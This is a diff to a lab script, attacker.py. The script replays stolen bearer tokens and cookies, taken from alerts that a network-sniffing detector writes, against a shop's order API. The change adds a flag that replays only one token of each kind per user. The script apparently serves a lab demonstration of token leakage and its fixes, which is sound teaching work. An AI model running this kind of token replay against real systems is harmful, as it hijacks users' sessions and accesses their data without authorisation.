@@ -3,7 +3,10 @@
 says what came back. It reads the alerts plainsight writes (with --reveal) as they arrive, and runs in the
 victim's network namespace, as an attacker on the same LAN would: inside the lab, nowhere else.
 
-    attacker.py ALERTS.jsonl SHOP_IP HOST     (until killed)
+    attacker.py ALERTS.jsonl SHOP_IP HOST [--once-per-kind]    (until killed)
+
+`--once-per-kind` (lab/run.sh --fixed): only the first token of each kind and user is replayed, so that
+the fixes' steps, told in the same pane, are not pushed off it by a replay per login.
 
 Each replay prints one line: `replay <kind> <user> -> HTTP <status>: <first bytes of the answer>`.
 When plain HTTP only redirects to HTTPS (lab/run.sh --fixed), the attacker follows: a token stolen
@@ -22,6 +25,7 @@ import urllib.request
 TOKENS = {"bearer_jwt", "bearer_opaque", "login_response_token"}
 COOKIES = {"cookie_token", "set_cookie_insecure"}
 done = set()
+once_per_kind = False
 
 
 def unsafe(c):
@@ -82,6 +86,10 @@ def handle(a):
     if (jwt.get("validity") or {}).get("state") == "expired":
         return
     done.add(a.get("fingerprint"))
+    if once_per_kind:
+        if (kind, a.get("user")) in done:
+            return
+        done.add((kind, a.get("user")))
     if kind in TOKENS:
         status, body, moved = replay("/api/orders", {"Authorization": "Bearer " + secret})
     else:
@@ -115,8 +123,9 @@ def new_alerts(path, pos):
 
 
 def main():
-    global shop, host
+    global shop, host, once_per_kind
     alerts, shop, host = sys.argv[1], sys.argv[2], sys.argv[3]
+    once_per_kind = "--once-per-kind" in sys.argv[4:]
     pos = 0
     while True:
         got, pos = new_alerts(alerts, pos)
